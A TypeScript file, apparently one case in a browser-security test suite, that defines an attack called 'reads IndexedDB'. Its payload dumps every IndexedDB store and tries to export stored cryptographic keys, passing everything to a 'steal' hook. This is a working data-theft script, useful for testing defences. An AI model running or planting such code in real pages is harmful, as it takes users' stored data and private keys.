import { attack } from "../attack.js";

export default attack({
  name: "reads IndexedDB",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const latin1 = (bytes: Uint8Array) => Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");

    /** Strings, bytes as text, and exportable keys. */
    const look = async (value: unknown, depth = 0): Promise<void> => {
      if (typeof value === "string") it.steal(value);
      if (typeof value !== "object" || value === null || depth > 6) return;
      if (value instanceof ArrayBuffer) it.steal(latin1(new Uint8Array(value)));
      else if (ArrayBuffer.isView(value)) {
        it.steal(latin1(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
      } else if (value instanceof CryptoKey) {
        for (const format of ["raw", "jwk", "pkcs8"] as const) {
          await crypto.subtle.exportKey(format, value).then(
            (key) => look(key, depth + 1),
            () => {},
          );
        }
      } else for (const part of Object.values(value)) await look(part, depth + 1);
    };

    for (const { name = "" } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const objects = database.transaction(store).objectStore(store);
        const [keys, values] = await Promise.all([done(objects.getAllKeys()), done(objects.getAll())]);
        await look(keys);
        await look(values);
      }
      database.close();
    }
  },
});
